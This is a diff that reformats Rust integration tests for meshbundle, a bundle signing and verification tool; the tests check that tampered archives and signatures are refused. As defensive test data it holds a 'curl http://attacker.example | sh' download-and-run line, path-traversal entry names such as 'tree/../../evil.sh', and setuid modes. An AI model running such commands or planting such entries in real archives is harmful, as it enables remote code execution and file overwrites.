@@ -27,7 +27,10 @@ fn mb(dir: &Path, args: &[&str]) -> Output {
 
 fn mb_env(dir: &Path, args: &[&str], env: &[(&str, &str)]) -> Output {
     let mut c = Command::new(bin());
-    c.args(args).current_dir(dir).env("MESHBUNDLE_CONFIG_DIR", dir.join("no-config")).env_remove("MESHBUNDLE_TRUSTED_KEYS");
+    c.args(args)
+        .current_dir(dir)
+        .env("MESHBUNDLE_CONFIG_DIR", dir.join("no-config"))
+        .env_remove("MESHBUNDLE_TRUSTED_KEYS");
     for (k, v) in env {
         c.env(k, v);
     }
@@ -66,7 +69,10 @@ fn fingerprint_of(pub_file: &Path) -> String {
     let b64: String = pem.lines().filter(|l| !l.starts_with("-----")).collect();
     let der = base64::engine::general_purpose::STANDARD.decode(b64).unwrap();
     let raw = &der[der.len() - 32..];
-    format!("SHA256:{}", base64::engine::general_purpose::STANDARD_NO_PAD.encode(sha2::Sha256::digest(raw)))
+    format!(
+        "SHA256:{}",
+        base64::engine::general_purpose::STANDARD_NO_PAD.encode(sha2::Sha256::digest(raw))
+    )
 }
 
 type Entries = Vec<(tar::Header, Vec<u8>)>;
@@ -85,8 +91,22 @@ struct Policy<'a> {
     source: &'a str,
 }
 
-fn p<'a>(what: &'a str, args: Vec<&'a str>, env: Env<'a>, trusts_release: bool, trusts_other: bool, source: &'a str) -> Policy<'a> {
-    Policy { what, args, env, trusts_release, trusts_other, source }
+fn p<'a>(
+    what: &'a str,
+    args: Vec<&'a str>,
+    env: Env<'a>,
+    trusts_release: bool,
+    trusts_other: bool,
+    source: &'a str,
+) -> Policy<'a> {
+    Policy {
+        what,
+        args,
+        env,
+        trusts_release,
+        trusts_other,
+        source,
+    }
 }
 
 fn entries(path: &Path) -> Entries {
@@ -151,14 +171,20 @@ fn reseal(from: &Path, to: &Path, mut body: Entries, change: impl FnOnce(&mut Va
 
 /// The entries of a bundle after its head.
 fn body(path: &Path) -> Entries {
-    entries(path).into_iter().filter(|(h, _)| !name_of(h).starts_with("SEAL.")).collect()
+    entries(path)
+        .into_iter()
+        .filter(|(h, _)| !name_of(h).starts_with("SEAL."))
+        .collect()
 }
 
 fn verify_json(dir: &Path, file: &str, extra: &[&str]) -> (Option<i32>, Value) {
     let mut args = vec!["verify", file, "--format", "json"];
     args.extend(extra);
     let o = mb(dir, &args);
-    (o.status.code(), serde_json::from_slice(&o.stdout).unwrap_or_else(|_| panic!("{file}: json: {}", all(&o))))
+    (
+        o.status.code(),
+        serde_json::from_slice(&o.stdout).unwrap_or_else(|_| panic!("{file}: json: {}", all(&o))),
+    )
 }
 
 /// Every file under `dir`, as paths relative to it.
@@ -190,7 +216,11 @@ fn resealed_hostile_seals_are_refused_naming_the_field_and_import_writes_nothing
     build(d, "good.mbundle", None);
     let good = d.join("good.mbundle");
     let list = body(&good);
-    let script = list.iter().map(|(h, _)| name_of(h)).find(|n| n.ends_with("install.sh")).unwrap();
+    let script = list
+        .iter()
+        .map(|(h, _)| name_of(h))
+        .find(|n| n.ends_with("install.sh"))
+        .unwrap();
     let zeros = format!("sha256:{}", "0".repeat(64));
 
     // (name, bundle, what verify must name)
@@ -209,7 +239,10 @@ fn resealed_hostile_seals_are_refused_naming_the_field_and_import_writes_nothing
         "base-dotdot",
         list.clone(),
         Box::new(move |s| {
-            s["files"].as_array_mut().unwrap().push(serde_json::json!({"name": "../../x", "sha256": sum, "size": 33, "url": "https://x"}));
+            s["files"]
+                .as_array_mut()
+                .unwrap()
+                .push(serde_json::json!({"name": "../../x", "sha256": sum, "size": 33, "url": "https://x"}));
             s["base"] = serde_json::json!({"id": z, "blobs": [], "files": ["../../x"]});
         }),
         vec!["files[5].name", "../../x", "`..`"],
@@ -284,7 +317,11 @@ fn resealed_hostile_seals_are_refused_naming_the_field_and_import_writes_nothing
             Box::new(move |s| {
                 for e in s["entries"].as_array_mut().unwrap() {
                     if e["path"] == script.as_str() {
-                        let v = if value == "UPPER" { e["sha256"].as_str().unwrap().to_uppercase() } else { value.clone() };
+                        let v = if value == "UPPER" {
+                            e["sha256"].as_str().unwrap().to_uppercase()
+                        } else {
+                            value.clone()
+                        };
                         e["sha256"] = v.into();
                     }
                 }
@@ -294,26 +331,43 @@ fn resealed_hostile_seals_are_refused_naming_the_field_and_import_writes_nothing
     }
 
     // Modes the archive and the seal agree on, but meshbundle never writes.
-    for (name, mode, why) in
-        [("mode-setuid", 0o4755, "setuid"), ("mode-0666", 0o666, "writable by anyone"), ("mode-0777", 0o777, "writable by anyone")]
-    {
+    for (name, mode, why) in [
+        ("mode-setuid", 0o4755, "setuid"),
+        ("mode-0666", 0o666, "writable by anyone"),
+        ("mode-0777", 0o777, "writable by anyone"),
+    ] {
         let mut b = list.clone();
         let i = b.iter().position(|(h, _)| name_of(h) == script).unwrap();
         b[i].0.set_mode(mode);
         b[i].0.set_cksum();
-        add(name, b, Box::new(|_| {}), vec!["entries[", "tree/install.sh: mode", why]);
+        add(
+            name,
+            b,
+            Box::new(|_| {}),
+            vec!["entries[", "tree/install.sh: mode", why],
+        );
     }
 
     // An entry path with `..` in the seal (and an archive entry of that name).
     let mut b = list.clone();
     b.push((raw_header("tree/../../evil.sh", 3, 0o755), b"id\n".to_vec()));
-    add("entry-dotdot", b, Box::new(|_| {}), vec!["entries[", "tree/../../evil.sh", "`..`"]);
+    add(
+        "entry-dotdot",
+        b,
+        Box::new(|_| {}),
+        vec!["entries[", "tree/../../evil.sh", "`..`"],
+    );
 
     // `tree/zz` a file and `tree/zz/b` inside it.
     let mut b = list.clone();
     b.push((raw_header("tree/zz", 2, 0o644), b"a\n".to_vec()));
     b.push((raw_header("tree/zz/b", 2, 0o644), b"b\n".to_vec()));
-    add("entry-inside-entry", b, Box::new(|_| {}), vec!["entries: tree/zz/b", "inside the entry `tree/zz`"]);
+    add(
+        "entry-inside-entry",
+        b,
+        Box::new(|_| {}),
+        vec!["entries: tree/zz/b", "inside the entry `tree/zz`"],
+    );
 
     // Sanity: the same re-sealing with no change is accepted.
     reseal(&good, &d.join("plain.mbundle"), list.clone(), |_| {});
@@ -325,13 +379,20 @@ fn resealed_hostile_seals_are_refused_naming_the_field_and_import_writes_nothing
         let o = mb(d, &["verify", &file]);
         let out = text(&o.stdout);
         assert_eq!(o.status.code(), Some(1), "{name}: verify must refuse: {}", all(&o));
-        assert!(out.starts_with(&format!("{file}: BAD: SEAL.json: ")), "{name}: the seal is named: {out}");
+        assert!(
+            out.starts_with(&format!("{file}: BAD: SEAL.json: ")),
+            "{name}: the seal is named: {out}"
+        );
         for w in want {
             assert!(out.contains(w), "{name}: expected `{w}` in: {out}");
         }
         assert_eq!(out.lines().count(), 1, "{name}: {out}");
         let (code, v) = verify_json(d, &file, &[]);
-        assert_eq!((code, v["ok"].as_bool(), v["error"]["entry"].as_str()), (Some(1), Some(false), Some("SEAL.json")), "{name}: {v}");
+        assert_eq!(
+            (code, v["ok"].as_bool(), v["error"]["entry"].as_str()),
+            (Some(1), Some(false), Some("SEAL.json")),
+            "{name}: {v}"
+        );
 
         // Import over a target the good bundle was laid out in (as a
         // differential bundle is); beside it, a file the base would "keep":
@@ -340,16 +401,33 @@ fn resealed_hostile_seals_are_refused_naming_the_field_and_import_writes_nothing
         std::fs::create_dir_all(&case).unwrap();
         std::fs::write(case.join("x"), &outside).unwrap();
         let target = case.join("target");
-        let o = mb(d, &["import", "good.mbundle", "--quiet", "--extract", target.to_str().unwrap()]);
+        let o = mb(
+            d,
+            &[
+                "import",
+                "good.mbundle",
+                "--quiet",
+                "--extract",
+                target.to_str().unwrap(),
+            ],
+        );
         assert!(o.status.success(), "{}", all(&o));
-        let before: Vec<(String, Vec<u8>)> =
-            listing(&case).into_iter().map(|p| (p.clone(), std::fs::read(case.join(&p)).unwrap_or_default())).collect();
+        let before: Vec<(String, Vec<u8>)> = listing(&case)
+            .into_iter()
+            .map(|p| (p.clone(), std::fs::read(case.join(&p)).unwrap_or_default()))
+            .collect();
         let o = mb(d, &["import", &file, "--quiet", "--extract", target.to_str().unwrap()]);
         assert_eq!(o.status.code(), Some(1), "{name}: import must refuse: {}", all(&o));
         assert!(text(&o.stdout).contains("SEAL.json"), "{name}: {}", all(&o));
-        assert_eq!(std::fs::read(case.join("x")).unwrap(), outside, "{name}: the file outside is untouched");
-        let after: Vec<(String, Vec<u8>)> =
-            listing(&case).into_iter().map(|p| (p.clone(), std::fs::read(case.join(&p)).unwrap_or_default())).collect();
+        assert_eq!(
+            std::fs::read(case.join("x")).unwrap(),
+            outside,
+            "{name}: the file outside is untouched"
+        );
+        let after: Vec<(String, Vec<u8>)> = listing(&case)
+            .into_iter()
+            .map(|p| (p.clone(), std::fs::read(case.join(&p)).unwrap_or_default()))
+            .collect();
         assert!(before == after, "{name}: nothing written at all");
         // And into a new directory: nothing made.
         let fresh = case.join("fresh");
@@ -366,31 +444,77 @@ fn archive_framing_trailing_data_cut_heads_and_damaged_headers() {
     let d = dir.path();
     build(d, "good.mbundle", None);
     let good = std::fs::read(d.join("good.mbundle")).unwrap();
-    assert_eq!(&good[good.len() - 1024..], &[0u8; 1024][..], "a bundle ends with two zero blocks");
+    assert_eq!(
+        &good[good.len() - 1024..],
+        &[0u8; 1024][..],
+        "a bundle ends with two zero blocks"
+    );
 
     let seal_size = entries(&d.join("good.mbundle"))[0].1.len();
     let mut cases: Vec<(&str, Vec<u8>, &str, &str)> = Vec::new();
     // Data after the end-of-archive marker: junk, and a whole tar entry.
     let mut junk = good.clone();
     junk.extend_from_slice(b"#!/bin/sh\ncurl http://attacker.example | sh\n");
-    cases.push(("junk-after-end", junk, "(end of archive)", "after the end-of-archive marker"));
+    cases.push((
+        "junk-after-end",
+        junk,
+        "(end of archive)",
+        "after the end-of-archive marker",
+    ));
     let mut more = good.clone();
     let mut extra = tar::Builder::new(Vec::new());
-    extra.append(&raw_header("tree/evil.sh", 3, 0o755), &b"id\n"[..]).unwrap();
+    extra
+        .append(&raw_header("tree/evil.sh", 3, 0o755), &b"id\n"[..])
+        .unwrap();
     more.extend_from_slice(&extra.into_inner().unwrap());
-    cases.push(("entry-after-end", more, "(end of archive)", "after the end-of-archive marker"));
+    cases.push((
+        "entry-after-end",
+        more,
+        "(end of archive)",
+        "after the end-of-archive marker",
+    ));
     let mut zeros = good.clone();
     zeros.extend_from_slice(&[0u8; 512]);
-    cases.push(("zeros-after-end", zeros, "(end of archive)", "512 bytes of data after the end-of-archive marker"));
+    cases.push((
+        "zeros-after-end",
+        zeros,
+        "(end of archive)",
+        "512 bytes of data after the end-of-archive marker",
+    ));
     // No end marker at all: cut right after the last entry.
-    cases.push(("no-end-marker", good[..good.len() - 1024].to_vec(), "(end of archive)", "truncated"));
-    cases.push(("half-end-marker", good[..good.len() - 512].to_vec(), "(end of archive)", "truncated"));
+    cases.push((
+        "no-end-marker",
+        good[..good.len() - 1024].to_vec(),
+        "(end of archive)",
+        "truncated",
+    ));
+    cases.push((
+        "half-end-marker",
+        good[..good.len() - 512].to_vec(),
+        "(end of archive)",
+        "truncated",
+    ));
     // Cut inside SEAL.json's data, and inside its header.
-    cases.push(("cut-seal", good[..512 + seal_size / 2].to_vec(), "SEAL.json", "truncated"));
-    cases.push(("cut-seal-header", good[..300].to_vec(), "SEAL.json", "damaged or cut header"));
+    cases.push((
+        "cut-seal",
+        good[..512 + seal_size / 2].to_vec(),
+        "SEAL.json",
+        "truncated",
+    ));
+    cases.push((
+        "cut-seal-header",
+        good[..300].to_vec(),
+        "SEAL.json",
+        "damaged or cut header",
+    ));
     // Cut inside SEAL.sha256's header; a damaged SEAL.sha256 header.
     let sum_at = 512 + seal_size.div_ceil(512) * 512;
-    cases.push(("cut-sum-header", good[..sum_at + 100].to_vec(), "SEAL.sha256", "damaged or cut header"));
+    cases.push((
+        "cut-sum-header",
+        good[..sum_at + 100].to_vec(),
+        "SEAL.sha256",
+        "damaged or cut header",
+    ));
     let mut bad_sum = good.clone();
     bad_sum[sum_at + 150] ^= 0x55; // inside the header's checksum-covered fields
     cases.push(("damaged-sum-header", bad_sum, "SEAL.sha256", "damaged or cut header"));
@@ -401,7 +525,10 @@ fn archive_framing_trailing_data_cut_heads_and_damaged_headers() {
         let o = mb(d, &["verify", &file]);
         let out = text(&o.stdout);
         assert_eq!(o.status.code(), Some(1), "{name}: {}", all(&o));
-        assert!(out.contains(&format!("BAD: {entry}: ")) && out.contains(why), "{name}: expected `{entry}` and `{why}` in: {out}");
+        assert!(
+            out.contains(&format!("BAD: {entry}: ")) && out.contains(why),
+            "{name}: expected `{entry}` and `{why}` in: {out}"
+        );
         let (_, v) = verify_json(d, &file, &[]);
         assert_eq!(v["error"]["entry"].as_str(), Some(*entry), "{name}: {v}");
         let o = mb(d, &["import", &file, "--quiet", "--extract", "out"]);
@@ -428,13 +555,25 @@ fn files_that_are_no_bundle_are_said_so_in_one_plain_line() {
         ("missing.mbundle", "no such file"),
     ];
     for (file, phrase) in cases {
-        for cmd in [vec!["verify", file], vec!["inspect", file], vec!["import", file, "--quiet", "--extract", "out"]] {
+        for cmd in [
+            vec!["verify", file],
+            vec!["inspect", file],
+            vec!["import", file, "--quiet", "--extract", "out"],
+        ] {
             let o = mb(d, &cmd);
             let out = all(&o);
             assert_eq!(o.status.code(), Some(1), "{cmd:?}: {out}");
             assert_eq!(out.trim().lines().count(), 1, "{cmd:?}: one line: {out}");
             assert!(out.contains(&format!("{file}: {phrase}")), "{cmd:?}: {out}");
-            for internal in ["numeric field", "checksum", "os error", "(start)", "unexpected", "BAD", "hint"] {
+            for internal in [
+                "numeric field",
+                "checksum",
+                "os error",
+                "(start)",
+                "unexpected",
+                "BAD",
+                "hint",
+            ] {
                 assert!(!out.contains(internal), "{cmd:?}: no `{internal}`: {out}");
             }
             assert!(!d.join("out").exists());
@@ -466,7 +605,11 @@ fn with_signature(from: &Path, to: &Path, sig: &[u8]) {
 }
 
 fn sig_of(path: &Path) -> Vec<u8> {
-    entries(path).into_iter().find(|(h, _)| name_of(h) == "SEAL.json.sig").unwrap().1
+    entries(path)
+        .into_iter()
+        .find(|(h, _)| name_of(h) == "SEAL.json.sig")
+        .unwrap()
+        .1
 }
 
 #[test]
@@ -475,7 +618,11 @@ fn signature_states_and_bad_signatures_without_a_key() {
     let d = dir.path();
     let release = keygen(d, "release");
     let other = keygen(d, "other");
-    assert_eq!(release, fingerprint_of(&d.join("release.pub")), "keygen prints the fingerprint of the raw key");
+    assert_eq!(
+        release,
+        fingerprint_of(&d.join("release.pub")),
+        "keygen prints the fingerprint of the raw key"
+    );
     assert_ne!(release, other);
     build(d, "unsigned.mbundle", None);
     build(d, "signed.mbundle", Some("release.key"));
@@ -483,25 +630,46 @@ fn signature_states_and_bad_signatures_without_a_key() {
 
     // Unsigned.
     let o = mb(d, &["verify", "unsigned.mbundle"]);
-    assert!(o.status.success() && text(&o.stdout).contains("signature: unsigned"), "{}", all(&o));
+    assert!(
+        o.status.success() && text(&o.stdout).contains("signature: unsigned"),
+        "{}",
+        all(&o)
+    );
     let (_, v) = verify_json(d, "unsigned.mbundle", &[]);
     assert_eq!(v["signature"]["state"], "unsigned", "{v}");
     // Signed, not checked: the key it claims, marked unchecked.
     let o = mb(d, &["verify", "signed.mbundle"]);
     let out = text(&o.stdout);
     assert!(o.status.success(), "{}", all(&o));
-    assert!(out.contains("signature: signed, not checked") && out.contains(&release) && out.contains("unchecked"), "{out}");
+    assert!(
+        out.contains("signature: signed, not checked") && out.contains(&release) && out.contains("unchecked"),
+        "{out}"
+    );
     let (_, v) = verify_json(d, "signed.mbundle", &[]);
-    assert_eq!((v["signature"]["state"].as_str(), v["signature"]["claimedKey"].as_str()), (Some("unchecked"), Some(release.as_str())));
+    assert_eq!(
+        (v["signature"]["state"].as_str(), v["signature"]["claimedKey"].as_str()),
+        (Some("unchecked"), Some(release.as_str()))
+    );
     // Signed by the key given: verified, with its fingerprint.
     let o = mb(d, &["verify", "signed.mbundle", "--key", "release.pub"]);
     assert!(o.status.success(), "{}", all(&o));
-    assert!(text(&o.stdout).contains(&format!("signature: signed by key {release}, verified")), "{}", all(&o));
+    assert!(
+        text(&o.stdout).contains(&format!("signature: signed by key {release}, verified")),
+        "{}",
+        all(&o)
+    );
     let (_, v) = verify_json(d, "signed.mbundle", &["--key", "release.pub"]);
-    assert_eq!((v["signature"]["state"].as_str(), v["signature"]["key"].as_str()), (Some("verified"), Some(release.as_str())));
+    assert_eq!(
+        (v["signature"]["state"].as_str(), v["signature"]["key"].as_str()),
+        (Some("verified"), Some(release.as_str()))
+    );
     // inspect states it too, from the seal alone.
     let o = mb(d, &["inspect", "signed.mbundle"]);
-    assert!(text(&o.stdout).contains(&format!("signature  signed, not checked: it claims key {release}")), "{}", all(&o));
+    assert!(
+        text(&o.stdout).contains(&format!("signature  signed, not checked: it claims key {release}")),
+        "{}",
+        all(&o)
+    );
     let o = mb(d, &["inspect", "unsigned.mbundle", "--format", "json"]);
     let v: Value = serde_json::from_slice(&o.stdout).unwrap();
     assert_eq!(v["signature"]["state"], "unsigned");
@@ -517,26 +685,57 @@ fn signature_states_and_bad_signatures_without_a_key() {
     let mut short = good_sig.clone();
     short["signature"] = "AAAA".into();
     let mut swapped_key = good_sig.clone();
-    swapped_key["publicKey"] = serde_json::from_slice::<Value>(&sig_of(&d.join("other.mbundle"))).unwrap()["publicKey"].clone();
+    swapped_key["publicKey"] =
+        serde_json::from_slice::<Value>(&sig_of(&d.join("other.mbundle"))).unwrap()["publicKey"].clone();
     let cases: Vec<(&str, Vec<u8>, &str)> = vec![
-        ("damaged", serde_json::to_vec(&flipped).unwrap(), "does not match the seal"),
-        ("garbled", b"{\"algorithm\":\"ed25519\",\"publ".to_vec(), "not a signature"),
+        (
+            "damaged",
+            serde_json::to_vec(&flipped).unwrap(),
+            "does not match the seal",
+        ),
+        (
+            "garbled",
+            b"{\"algorithm\":\"ed25519\",\"publ".to_vec(),
+            "not a signature",
+        ),
         ("empty", Vec::new(), "empty"),
         ("none", b"none".to_vec(), "not a signature"),
         ("alg-none", serde_json::to_vec(&wrong_alg).unwrap(), "not ed25519"),
         ("short", serde_json::to_vec(&short).unwrap(), "not 64 bytes"),
         // Another key's signature over another seal, and a signature relabelled with another key.
         ("another-seal", Vec::new(), "does not match the seal"),
-        ("relabelled", serde_json::to_vec(&swapped_key).unwrap(), "does not match the seal"),
+        (
+            "relabelled",
+            serde_json::to_vec(&swapped_key).unwrap(),
+            "does not match the seal",
+        ),
     ];
     // The lab seal is the same whoever signs it: another key's signature over another seal comes from another example.
     let other_sig_on_other_seal = {
-        let o = mb(d, &["build", "--example", "production", "-o", "prod.mbundle", "--cache", "cache", "--quiet", "--sign", "other.key"]);
+        let o = mb(
+            d,
+            &[
+                "build",
+                "--example",
+                "production",
+                "-o",
+                "prod.mbundle",
+                "--cache",
+                "cache",
+                "--quiet",
+                "--sign",
+                "other.key",
+            ],
+        );
         assert!(o.status.success(), "{}", all(&o));
         sig_of(&d.join("prod.mbundle"))
     };
     for (name, sig, why) in cases {
-        let sig = if name == "another-seal" { other_sig_on_other_seal.clone() } else { sig };
+        let sig = if name == "another-seal" {
+            other_sig_on_other_seal.clone()
+        } else {
+            sig
+        };
         let file = format!("sig-{name}.mbundle");
         with_signature(&d.join("signed.mbundle"), &d.join(&file), &sig);
         for key in [None, Some("release.pub"), Some("other.pub")] {
@@ -547,7 +746,10 @@ fn signature_states_and_bad_signatures_without_a_key() {
             let o = mb(d, &args);
             let out = text(&o.stdout);
             assert_eq!(o.status.code(), Some(1), "{name} {key:?}: {}", all(&o));
-            assert!(out.contains("BAD: SEAL.json.sig: ") && out.contains(why), "{name} {key:?}: expected `{why}` in: {out}");
+            assert!(
+                out.contains("BAD: SEAL.json.sig: ") && out.contains(why),
+                "{name} {key:?}: expected `{why}` in: {out}"
+            );
         }
         let o = mb(d, &["inspect", &file]);
         assert_eq!(o.status.code(), Some(1), "{name}: inspect: {}", all(&o));
@@ -580,13 +782,55 @@ fn trust_policy_from_flags_directories_the_variable_and_the_config_directory() {
 
     // How the policy is given (args, env), whether it trusts release and other, and its name in messages.
     let policies: Vec<Policy> = vec![
-        p("one key", vec!["--key", "release.pub"], vec![], true, false, "--key release.pub"),
-        p("two keys", vec!["--key", "other.pub", "--key", "release.pub"], vec![], true, true, "--key other.pub --key release.pub"),
+        p(
+            "one key",
+            vec!["--key", "release.pub"],
+            vec![],
+            true,
+            false,
+            "--key release.pub",
+        ),
+        p(
+            "two keys",
+            vec!["--key", "other.pub", "--key", "release.pub"],
+            vec![],
+            true,
+            true,
+            "--key other.pub --key release.pub",
+        ),
         p("key directory", vec!["--key", "keys"], vec![], true, true, "--key keys"),
-        p("directory of another key", vec!["--key", "other-only"], vec![], false, true, "--key other-only"),
-        p("variable", vec![], vec![("MESHBUNDLE_TRUSTED_KEYS", "other.pub:keys")], true, true, "MESHBUNDLE_TRUSTED_KEYS"),
-        p("variable, one file", vec![], vec![("MESHBUNDLE_TRUSTED_KEYS", "other.pub")], false, true, "MESHBUNDLE_TRUSTED_KEYS=other.pub"),
-        p("config directory", vec![], vec![("MESHBUNDLE_CONFIG_DIR", cfg_s)], true, false, "trusted-keys"),
+        p(
+            "directory of another key",
+            vec!["--key", "other-only"],
+            vec![],
+            false,
+            true,
+            "--key other-only",
+        ),
+        p(
+            "variable",
+            vec![],
+            vec![("MESHBUNDLE_TRUSTED_KEYS", "other.pub:keys")],
+            true,
+            true,
+            "MESHBUNDLE_TRUSTED_KEYS",
+        ),
+        p(
+            "variable, one file",
+            vec![],
+            vec![("MESHBUNDLE_TRUSTED_KEYS", "other.pub")],
+            false,
+            true,
+            "MESHBUNDLE_TRUSTED_KEYS=other.pub",
+        ),
+        p(
+            "config directory",
+            vec![],
+            vec![("MESHBUNDLE_CONFIG_DIR", cfg_s)],
+            true,
+            false,
+            "trusted-keys",
+        ),
         // The flag wins over the variable, and the variable over the config directory.
         p(
             "flag over variable",
@@ -599,32 +843,59 @@ fn trust_policy_from_flags_directories_the_variable_and_the_config_directory() {
         p(
             "variable over config",
             vec![],
-            vec![("MESHBUNDLE_TRUSTED_KEYS", "other.pub"), ("MESHBUNDLE_CONFIG_DIR", cfg_s)],
+            vec![
+                ("MESHBUNDLE_TRUSTED_KEYS", "other.pub"),
+                ("MESHBUNDLE_CONFIG_DIR", cfg_s),
+            ],
             false,
             true,
             "MESHBUNDLE_TRUSTED_KEYS",
         ),
     ];
-    for Policy { what, args, env, trusts_release, trusts_other, source } in &policies {
-        for (bundle, trusted, fp) in [("signed.mbundle", *trusts_release, &release), ("other.mbundle", *trusts_other, &other)] {
+    for Policy {
+        what,
+        args,
+        env,
+        trusts_release,
+        trusts_other,
+        source,
+    } in &policies
+    {
+        for (bundle, trusted, fp) in [
+            ("signed.mbundle", *trusts_release, &release),
+            ("other.mbundle", *trusts_other, &other),
+        ] {
             let mut all_args = vec!["verify", bundle];
             all_args.extend(args);
             let o = mb_env(d, &all_args, env);
             let out = text(&o.stdout);
             if trusted {
                 assert!(o.status.success(), "{what}, {bundle}: {}", all(&o));
-                assert!(out.contains(&format!("signature: signed by key {fp}, verified")), "{what}, {bundle}: {out}");
+                assert!(
+                    out.contains(&format!("signature: signed by key {fp}, verified")),
+                    "{what}, {bundle}: {out}"
+                );
             } else {
                 assert_eq!(o.status.code(), Some(1), "{what}, {bundle}: {}", all(&o));
-                assert!(out.contains("BAD: SEAL.json.sig: signed by another key"), "{what}, {bundle}: {out}");
-                assert!(out.contains(fp.as_str()) && out.contains(source), "{what}, {bundle}: names the signer and the policy: {out}");
+                assert!(
+                    out.contains("BAD: SEAL.json.sig: signed by another key"),
+                    "{what}, {bundle}: {out}"
+                );
+                assert!(
+                    out.contains(fp.as_str()) && out.contains(source),
+                    "{what}, {bundle}: names the signer and the policy: {out}"
+                );
             }
         }
         let mut all_args = vec!["verify", "unsigned.mbundle"];
         all_args.extend(args);
         let o = mb_env(d, &all_args, env);
         assert_eq!(o.status.code(), Some(1), "{what}: unsigned: {}", all(&o));
-        assert!(text(&o.stdout).contains("unsigned") && text(&o.stdout).contains(source), "{what}: {}", all(&o));
+        assert!(
+            text(&o.stdout).contains("unsigned") && text(&o.stdout).contains(source),
+            "{what}: {}",
+            all(&o)
+        );
     }
     // No policy at all (the config directory absent): unsigned and unchecked are fine.
     for b in ["unsigned.mbundle", "signed.mbundle", "other.mbundle"] {
@@ -661,25 +932,60 @@ fn import_with_a_policy_refuses_unsigned_and_foreign_bundles_and_states_the_sign
             a.extend(args);
             let o = mb_env(d, &a, env);
             assert_eq!(o.status.code(), Some(1), "{bundle} {args:?} {env:?}: {}", all(&o));
-            assert!(text(&o.stdout).contains("SEAL.json.sig") && why.iter().all(|w| text(&o.stdout).contains(w)), "{bundle}: {}", all(&o));
+            assert!(
+                text(&o.stdout).contains("SEAL.json.sig") && why.iter().all(|w| text(&o.stdout).contains(w)),
+                "{bundle}: {}",
+                all(&o)
+            );
             assert!(text(&o.stderr).contains("nothing was imported"), "{}", all(&o));
             assert!(!d.join("out").exists(), "{bundle}: nothing laid out");
         }
-        let mut a = vec!["import", "signed.mbundle", "--quiet", "--extract", "out", "--format", "json"];
+        let mut a = vec![
+            "import",
+            "signed.mbundle",
+            "--quiet",
+            "--extract",
+            "out",
+            "--format",
+            "json",
+        ];
         a.extend(args);
         let o = mb_env(d, &a, env);
         assert!(o.status.success(), "{}", all(&o));
-        assert!(text(&o.stderr).contains(&format!("signature: signed by key {release}, verified")), "{}", all(&o));
+        assert!(
+            text(&o.stderr).contains(&format!("signature: signed by key {release}, verified")),
+            "{}",
+            all(&o)
+        );
         let v: Value = serde_json::from_slice(&o.stdout).unwrap();
-        assert_eq!((v["signature"]["state"].as_str(), v["signature"]["key"].as_str()), (Some("verified"), Some(release.as_str())), "{v}");
+        assert_eq!(
+            (v["signature"]["state"].as_str(), v["signature"]["key"].as_str()),
+            (Some("verified"), Some(release.as_str())),
+            "{v}"
+        );
         std::fs::remove_dir_all(d.join("out")).unwrap();
     }
     // Without a policy, import says what it knows.
     let o = mb(d, &["import", "signed.mbundle", "--quiet", "--extract", "out"]);
     assert!(o.status.success(), "{}", all(&o));
-    assert!(text(&o.stderr).contains("signature: signed, not checked") && text(&o.stderr).contains(&release), "{}", all(&o));
+    assert!(
+        text(&o.stderr).contains("signature: signed, not checked") && text(&o.stderr).contains(&release),
+        "{}",
+        all(&o)
+    );
     std::fs::remove_dir_all(d.join("out")).unwrap();
-    let o = mb(d, &["import", "unsigned.mbundle", "--quiet", "--extract", "out", "--format", "json"]);
+    let o = mb(
+        d,
+        &[
+            "import",
+            "unsigned.mbundle",
+            "--quiet",
+            "--extract",
+            "out",
+            "--format",
+            "json",
+        ],
+    );
     assert!(o.status.success(), "{}", all(&o));
     assert!(text(&o.stderr).contains("signature: unsigned"), "{}", all(&o));
     let v: Value = serde_json::from_slice(&o.stdout).unwrap();
@@ -705,10 +1011,21 @@ fn trusted_key_files_that_are_unsound_are_errors_not_skipped() {
     let open_dir = mk("open-dir");
     std::fs::set_permissions(&open_dir, std::fs::Permissions::from_mode(0o777)).unwrap();
     let malformed = mk("malformed");
-    std::fs::write(malformed.join("broken.pub"), "-----BEGIN PUBLIC KEY-----\nnot a key\n-----END PUBLIC KEY-----\n").unwrap();
+    std::fs::write(
+        malformed.join("broken.pub"),
+        "-----BEGIN PUBLIC KEY-----\nnot a key\n-----END PUBLIC KEY-----\n",
+    )
+    .unwrap();
     let rsa = mk("rsa");
     let o = Command::new("openssl")
-        .args(["genpkey", "-algorithm", "RSA", "-pkeyopt", "rsa_keygen_bits:1024", "-out"])
+        .args([
+            "genpkey",
+            "-algorithm",
+            "RSA",
+            "-pkeyopt",
+            "rsa_keygen_bits:1024",
+            "-out",
+        ])
         .arg(d.join("rsa.key"))
         .output()
         .unwrap();
@@ -746,8 +1063,14 @@ fn trusted_key_files_that_are_unsound_are_errors_not_skipped() {
         let full = full.to_str().unwrap();
         for (args, env) in [
             (vec!["verify", "signed.mbundle", "--key", full], vec![]),
-            (vec!["verify", "signed.mbundle"], vec![("MESHBUNDLE_TRUSTED_KEYS", full)]),
-            (vec!["import", "signed.mbundle", "--quiet", "--extract", "out", "--key", full], vec![]),
+            (
+                vec!["verify", "signed.mbundle"],
+                vec![("MESHBUNDLE_TRUSTED_KEYS", full)],
+            ),
+            (
+                vec!["import", "signed.mbundle", "--quiet", "--extract", "out", "--key", full],
+                vec![],
+            ),
         ] {
             let o = mb_env(d, &args, &env);
             assert_eq!(o.status.code(), Some(1), "{path} {args:?}: {}", all(&o));
@@ -763,12 +1086,32 @@ fn trusted_key_files_that_are_unsound_are_errors_not_skipped() {
     let cfg = d.join("cfg");
     std::fs::create_dir(&cfg).unwrap();
     std::fs::rename(&writable, cfg.join("trusted-keys")).unwrap();
-    let o = mb_env(d, &["verify", "signed.mbundle"], &[("MESHBUNDLE_CONFIG_DIR", cfg.to_str().unwrap())]);
+    let o = mb_env(
+        d,
+        &["verify", "signed.mbundle"],
+        &[("MESHBUNDLE_CONFIG_DIR", cfg.to_str().unwrap())],
+    );
     assert_eq!(o.status.code(), Some(1), "{}", all(&o));
-    assert!(text(&o.stderr).contains("writable by anyone") && text(&o.stderr).contains("chmod go-w"), "{}", all(&o));
-    std::fs::set_permissions(cfg.join("trusted-keys/release.pub"), std::fs::Permissions::from_mode(0o644)).unwrap();
-    let o = mb_env(d, &["verify", "signed.mbundle"], &[("MESHBUNDLE_CONFIG_DIR", cfg.to_str().unwrap())]);
-    assert!(o.status.success() && text(&o.stdout).contains(", verified"), "{}", all(&o));
+    assert!(
+        text(&o.stderr).contains("writable by anyone") && text(&o.stderr).contains("chmod go-w"),
+        "{}",
+        all(&o)
+    );
+    std::fs::set_permissions(
